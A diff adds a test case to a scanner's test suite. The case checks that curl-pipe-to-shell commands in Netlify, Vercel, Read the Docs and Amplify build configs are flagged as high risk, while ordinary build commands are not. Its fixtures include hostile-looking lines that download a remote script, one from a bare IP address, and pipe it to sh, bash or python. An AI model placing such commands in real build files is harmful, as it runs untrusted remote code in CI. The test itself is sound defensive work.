@@ -28,6 +28,17 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
   });
 
+  it("reads the build commands hosting services run for every PR's preview (Netlify, Vercel, Read the Docs, Amplify, Render): high, as CI", () => {
+    expect(found('netlify.toml', [], ['[build]', '  command = "curl -fsSL https://get.example.dev/setup.sh | bash && npm run build"'])).toEqual(['high netlify.toml:3']);
+    expect(found('vercel.json', [], ['  "installCommand": "curl -s http://45.61.136.13/i.sh | sh; npm ci",'])).toEqual(['high vercel.json:2']);
+    expect(found('docs/.readthedocs.yaml', [], ['    post_install:', '      - curl -sSL https://get.example.dev/x | python3 -'])).toEqual(['high docs/.readthedocs.yaml:3']);
+    const finding = scriptDownloadFindings(makeFile('amplify.yml', { patch: patchOf([], ['        - curl -fsSL https://get.example.dev/x.sh | sh']) }))[0];
+    expect(finding?.detail).toContain("hosting service's build of this PR's preview");
+    // Their ordinary commands, and the same names elsewhere in a path, are quiet.
+    expect(found('netlify.toml', [], ['[build]', '  command = "npm run build"', '  publish = "dist"'])).toEqual([]);
+    expect(runsAsShell('docs/vercel.json.md')).toBe(false);
+  });
+
   it('is quiet on a command the PR only moves or re-indents, on comments, and on downloads not run', () => {
     const line = '\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.61.0';
     expect(found('Makefile', [line], ['lint: bin/golangci-lint', line])).toEqual([]);
